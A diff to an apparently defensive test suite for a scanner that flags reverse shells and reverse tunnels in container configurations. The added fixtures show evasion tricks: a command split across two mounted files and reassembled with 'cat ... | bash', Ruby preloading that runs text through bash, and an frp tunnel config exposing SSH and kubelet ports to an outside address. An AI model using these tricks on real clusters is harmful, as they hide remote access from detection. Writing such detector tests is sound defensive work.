@@ -84,6 +84,11 @@ const CARRIERS: Readonly<Record<string, Carrier>> = {
     data: (text) => ({ 'boot.rb': `system("bash", "-c", "${text}")` }),
     container: { env: [{ name: 'RUBYOPT', value: '-r/opt/s/boot.rb' }], command: ['ruby', '-e', 'puts 1'] },
   },
+  'pieces that a pattern names, in their order': {
+    mountPath: '/opt/s',
+    data: (text) => ({ 'b.conf': text.slice(12), 'a.conf': text.slice(0, 12), 'c.txt': 'exit' }),
+    container: { command: ['sh', '-c', 'cat /opt/s/[ab].con* | bash'] },
+  },
 };
 
 const hitsOf = ({ mountPath, data, container }: Carrier, text: string): readonly string[] => {
@@ -107,6 +112,18 @@ for (const [name, carrier] of Object.entries(CARRIERS)) {
     assert.ok(!hitsOf(carrier, DATE).includes('command.reverse-shell'));
   });
 }
+
+test('the settings of a tunnel are told, whatever the image is called', () => {
+  const settings = (server: string): Carrier => ({
+    mountPath: '/etc/agent',
+    data: () => ({
+      'a.ini': `[common]\nserver_addr = ${server}\n[k]\ntype = tcp\nlocal_port = 22,10250\nremote_port = 40022\n`,
+    }),
+    container: {},
+  });
+  assert.ok(hitsOf(settings('203.0.113.7'), '').includes('command.reverse-tunnel'));
+  assert.ok(!hitsOf(settings('frps.tunnel.svc'), '').includes('command.reverse-tunnel'));
+});
 
 test('a program by its name is not that of a directory beside the path', () => {
   const { container, ...rest } = CARRIERS['a program by the path of the container'] as Carrier;
